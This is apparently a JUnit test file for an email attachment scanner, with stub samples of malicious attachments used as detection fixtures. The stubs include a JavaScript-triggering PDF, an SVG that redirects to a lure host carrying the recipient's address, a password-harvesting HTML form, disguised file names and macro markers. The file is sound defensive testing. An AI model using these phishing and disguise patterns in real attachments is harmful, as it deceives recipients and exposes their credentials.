package io.carom.mail;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/// Files by what they are, whatever they are called.
class AttachmentSignsTest {
    private record File(String name, String latin1) {}

    private static List<String> reasons(File file, String text) {
        return verdict(file, text).reasons().stream().map(s -> s.reason().id()).toList();
    }

    private static MailVerdict verdict(File file, String text) {
        String mail = "From: a@b.example\nTo: c@d.example\nSubject: x\nMIME-Version: 1.0\n"
                + "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n" + text
                + "\n--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''"
                + java.net.URLEncoder.encode(file.name, StandardCharsets.UTF_8).replace("+", "%20")
                + "\nContent-Transfer-Encoding: base64\n\n"
                + Base64.getMimeEncoder().encodeToString(file.latin1.getBytes(StandardCharsets.ISO_8859_1))
                + "\n--b--\n";
        return new MailScanner(MailScanner.Settings.DEFAULT).scan(mail.getBytes(StandardCharsets.UTF_8), "", false);
    }

    @Test
    void eachKindIsToldByItsContent() {
        String zeros = "\0".repeat(100);
        Map<File, String> kinds = new LinkedHashMap<>();
        kinds.put(
                new File(
                        "a.pdf",
                        "%PDF-1.4\n1 0 obj <</OpenAction 2 0 R>> 2 0 obj <</S /JavaScript /JS (app.alert(1))>>"),
                "file-pdf-action");
        kinds.put(
                new File(
                        "a.pdf",
                        "%PDF-1.4\n1 0 obj <</Type /Filespec /EF <</F 3 0 R>> >> 3 0 obj <</Type /EmbeddedFile>>"),
                "file-pdf-file");
        kinds.put(
                new File(
                        "a.svg",
                        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href='https://x.example'</script></svg>"),
                "file-svg-script");
        kinds.put(new File("note.one", "\u00E4R\\{\u008C\u00D8\u00A7M" + zeros), "file-onenote");
        kinds.put(new File("a.doc", "{\\rtf1{\\object\\objupdate\\objdata 0105}}"), "file-rtf-object");
        kinds.put(new File("a.txt", "L\0\0\0\u0001\u0014\u0002\0" + zeros), "file-shortcut");
        kinds.put(new File("photo.jpg", "MZ" + zeros), "file-program");
        kinds.put(new File("invoice.pdf", "<html><script>x</script></html>"), "file-other-than-named");
        kinds.put(new File("invoice\u202Efdp.exe", "MZ" + zeros), "file-turned");
        kinds.put(new File("invoice.pdf.js", "var a;"), "file-double-ending");
        kinds.put(new File("login.html", "<html><form><input type=\"password\"></form></html>"), "file-asks-password");
        kinds.put(
                new File("open.html", "<html><script>document.write(atob('PGgxPg=='))</script></html>"),
                "file-smuggles");
        kinds.put(
                new File(
                        "a.xls",
                        "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1" + zeros
                                + "_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0"),
                "file-macro");
        kinds.put(new File("a.img", "\0".repeat(0x8001) + "BEA01\1" + zeros), "file-disk");
        kinds.put(new File("a.iso", "\0".repeat(0x8001) + "CD001\1" + zeros), "file-disk");
        kinds.put(new File("Report.msc", "<?xml version=\"1.0\"?><MMC_ConsoleFile/>"), "file-program");
        kinds.put(new File("Wifi.mobileconfig", "<?xml version=\"1.0\"?><plist/>"), "file-program");
        List<String> missed = new ArrayList<>();
        kinds.forEach((file, reason) -> {
            List<String> seen = reasons(file, "see");
            if (!seen.contains(reason)) {
                missed.add(file.name + ": " + seen + " without " + reason);
            }
        });
        assertEquals(List.of(), missed);
    }

    /// A number in so many bytes, the lowest first.
    private static String low(int bytes, int value) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < bytes; i++) {
            out.append((char) (value >> 8 * i & 0xFF));
        }
        return out.toString();
    }

    private static String rar4(int flags, String... names) {
        StringBuilder out =
                new StringBuilder("Rar!\u001A\u0007\0" + low(2, 0) + "s" + low(2, 0) + low(2, 13) + "\0".repeat(6));
        for (String name : names) {
            out.append(low(2, 0)).append('t').append(low(2, 0x8000 | flags)).append(low(2, 32 + name.length()));
            out.append(low(4, 5))
                    .append(low(4, 9))
                    .append('\2')
                    .append(low(4, 0))
                    .append(low(4, 0));
            out.append((char) 29).append('3').append(low(2, name.length())).append(low(4, 0x20));
            out.append(name).append("abcde");
        }
        return out.append(low(2, 0))
                .append('{')
                .append(low(2, 0))
                .append(low(2, 7))
                .toString();
    }

    private static String rar5(String extra, String... names) {
        StringBuilder out = new StringBuilder("Rar!\u001A\u0007\u0001\0" + low(4, 0) + "\u0003\u0001\0\0");
        for (String name : names) {
            String head = "\u0002" + (char) (2 | (extra.isEmpty() ? 0 : 1))
                    + (extra.isEmpty() ? "" : low(1, extra.length())) + "\u0005\u0004\u0009\u0020" + low(4, 0)
                    + "\0\u0001" + low(1, name.length()) + name + extra;
            out.append(low(4, 0)).append(low(1, head.length())).append(head).append("abcde");
        }
        return out.append(low(4, 0)).append("\u0003\u0005\0\0").toString();
    }

    private static String cab(String... names) {
        StringBuilder out = new StringBuilder("MSCF" + low(12, 0) + low(4, 44) + low(4, 0) + low(2, 0x103) + low(2, 1)
                + low(2, names.length) + low(6, 0) + low(8, 0));
        for (String name : names) {
            out.append(low(14, 0)).append(low(2, 0x20)).append(name).append('\0');
        }
        return out.toString();
    }

    /// RAR is what most malware comes in that comes in an archive, and is unpacked nowhere here.
    @Test
    void whatIsInAnArchiveThatIsNotUnpackedIsKnownByItsName() throws java.io.IOException {
        for (File file : List.of(
                new File("a.rar", rar4(0, "read me.txt", "invoice.pdf.exe")),
                new File("a.rar", rar5("", "read me.txt", "docs/invoice.pdf.exe")),
                new File("a.cab", cab("read me.txt", "invoice.pdf.exe")))) {
            List<String> seen = reasons(file, "see");
            assertTrue(seen.contains("file-program") && seen.contains("file-double-ending"), file + ": " + seen);
            assertTrue(seen.stream().noneMatch(r -> r.startsWith("file-locked")), seen::toString);
        }
        assertTrue(reasons(new File("a.rar", rar4(4, "a.txt")), "see").contains("file-locked"));
        assertTrue(reasons(new File("a.rar", rar5("\u0002\u0001\0", "a.txt")), "see")
                .contains("file-locked"));
        // Cut off anywhere it is looked at as far as it goes.
        String whole = rar5("", "a.txt", "b.exe");
        for (int length = 0; length < whole.length(); length += 5) {
            reasons(new File("a.rar", whole.substring(0, length)), "see");
            reasons(new File("a.rar", rar4(0, "a.txt").substring(0, Math.min(length, 30))), "see");
        }
        // A program for Java is an archive itself.
        java.io.ByteArrayOutputStream jar = new java.io.ByteArrayOutputStream();
        try (var zip = new java.util.zip.ZipOutputStream(jar)) {
            zip.putNextEntry(new java.util.zip.ZipEntry("Main.class"));
            zip.write(1);
            zip.closeEntry();
        }
        java.io.ByteArrayOutputStream outer = new java.io.ByteArrayOutputStream();
        try (var zip = new java.util.zip.ZipOutputStream(outer)) {
            zip.putNextEntry(new java.util.zip.ZipEntry("invoice.jar"));
            zip.write(jar.toByteArray());
            zip.closeEntry();
        }
        assertTrue(reasons(new File("a.zip", outer.toString(StandardCharsets.ISO_8859_1)), "see")
                .contains("file-program"));
    }

    @Test
    void whereAnAttachedPageLeadsTheMailLeads() {
        MailVerdict verdict = verdict(
                new File(
                        "Invoice.html",
                        "<html><form action='https://Collect.example/Post.php'><input type=password></form>"
                                + "<a href='https://next.example/A'>next</a><a href='#top'>top</a></html>"),
                "see");
        assertEquals(List.of("https://next.example/A", "https://Collect.example/Post.php"), verdict.urls());
        assertEquals(
                List.of("https://Lure.example/go?e="),
                verdict(
                                new File(
                                        "Voice.svg",
                                        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href='https:\\/\\/Lure."
                                                + "example\\/go?e='+mail;</script></svg>"),
                                "see")
                        .urls());
    }

    /// A calendar shows an invitation that nobody opened.
    @Test
    void whereAnInvitationLeadsTheMailLeads() {
        String mail =
                "From: a@b.example\nTo: c@d.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed;"
                        + " boundary=b\n\n--b\nContent-Type: text/plain\n\nsee\n--b\nContent-Type: text/calendar; name=invite.ics\n"
                        + "Content-Disposition: attachment; filename=invite.ics\n\nBEGIN:VCALENDAR\nDESCRIPTION:Pay at"
                        + " https://lure.exam\n ple/meet\\nor call\nEND:VCALENDAR\n--b--\n";
        assertEquals(
                List.of("https://lure.example/meet"),
                new MailScanner(MailScanner.Settings.DEFAULT)
                        .scan(mail.getBytes(StandardCharsets.UTF_8), "", false)
                        .urls());
    }

    @Test
    void aPdfSaysWhatItDoesHoweverItIsWritten() {
        String begin = "%PDF-1.4\n1 0 obj <</Type /Catalog ";
        assertTrue(reasons(new File("a.pdf", begin + "/AA <</O <</S /J#61va#53cript /J#53 (app.alert)>>>> >>"), "see")
                .contains("file-pdf-action"));
        assertTrue(reasons(new File("a.pdf", begin + "/Names <</Embedded#46ile 2 0 R>> >>"), "see")
                .contains("file-pdf-file"));
        assertTrue(reasons(
                        new File("a.pdf", begin + "/A <</S /URI /URI <68747470733A2F2F782E6578616D706C652F>>> >>"),
                        "see")
                .contains("file-pdf-link"));
        assertTrue(reasons(new File("a.pdf", begin + "/A <</S /URI /URI (https://x.example/a\\(b\\)c)>> >>"), "see")
                .contains("file-pdf-link"));
    }

    @Test
    void aPdfThatOnlyShowsSomethingIsNone() {
        List<String> seen = reasons(new File("a.pdf", "%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\n%%EOF"), "see");
        assertTrue(seen.stream().noneMatch(r -> r.startsWith("file-")), seen::toString);
    }
}
